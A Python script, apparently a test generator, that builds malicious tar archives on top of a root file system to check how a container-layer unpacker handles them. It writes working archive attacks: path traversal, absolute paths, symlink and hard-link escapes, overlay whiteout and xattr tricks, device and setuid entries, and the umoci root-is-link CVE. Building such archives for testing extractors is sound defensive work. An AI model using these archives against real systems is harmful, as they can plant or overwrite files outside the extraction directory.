# Archives of strangers: python3 archives.py KIND FILE VICTIM. What is in them beside a system is an attack.
import io, sys, tarfile

kind, path, victim = sys.argv[1:]
SYSTEM = sys.stdin.buffer.read()  # A root file system to begin with, as a tar archive.
out = tarfile.open(path, "w", format=tarfile.PAX_FORMAT)
with tarfile.open(fileobj=io.BytesIO(SYSTEM)) as system:
    for member in system:
        out.addfile(member, system.extractfile(member) if member.isfile() else None)


def add(name, text="theirs\n", **facts):
    member = tarfile.TarInfo(name)
    for key, value in facts.items():
        setattr(member, key, value)
    member.size = len(text) if member.type == tarfile.REGTYPE else 0
    out.addfile(member, io.BytesIO(text.encode()))


def link(name, target):
    add(name, type=tarfile.SYMTYPE, linkname=target)


if kind == "up":
    add("../" * 12 + victim[1:] + "/planted")
elif kind == "absolute":
    add(victim + "/planted")
elif kind == "link-then-write":
    link("way", victim)
    add("way/planted")
elif kind == "link-chain":
    link("a", "/")
    link("b", "a/" + victim[1:])
    add("b/planted")
elif kind == "file-over-link":
    link("over", victim + "/file")
    add("over")
elif kind == "hard-link-out":
    add("hard", type=tarfile.LNKTYPE, linkname=victim + "/file")
    add("hard")
elif kind == "hard-link-up":
    add("hard", type=tarfile.LNKTYPE, linkname="../" * 12 + victim[1:] + "/file")
    add("hard")
elif kind == "directory-over-link":
    link("over", victim)
    add("over", type=tarfile.DIRTYPE, mode=0o777)
    add("over/planted")
elif kind == "whiteout":
    link("way", victim)
    add("way/.wh.file")
    add("way/.wh..wh..opq")
elif kind == "overlay-attributes":
    add("marked", pax_headers={"SCHILY.xattr.trusted.overlay.redirect": victim, "SCHILY.xattr.trusted.overlay.opaque": "y"})
elif kind == "twins":
    for name in ("twin", "Twin", "twin", "TWIN"):
        add(name)
    link("twin", victim + "/file")
    add("twin")
elif kind == "long":
    add("x" * 254 + "/" + "y" * 254 + "/" + "z" * 5000)
elif kind == "devices":
    add("disk", type=tarfile.BLKTYPE, devmajor=7, devminor=0, mode=0o666)
    add("setuid", mode=0o4755)
elif kind == "whiteout-device":
    add("removed", type=tarfile.CHRTYPE, devmajor=0, devminor=0)
elif kind == "root-is-link":
    # CVE-2021-29136 of umoci before 0.4.7: what comes later goes through it.
    link(".", victim)
    add("planted")
elif kind == "far-numbers":
    add("far", uid=3000000, gid=4000000)
else:
    sys.exit(kind)
out.close()
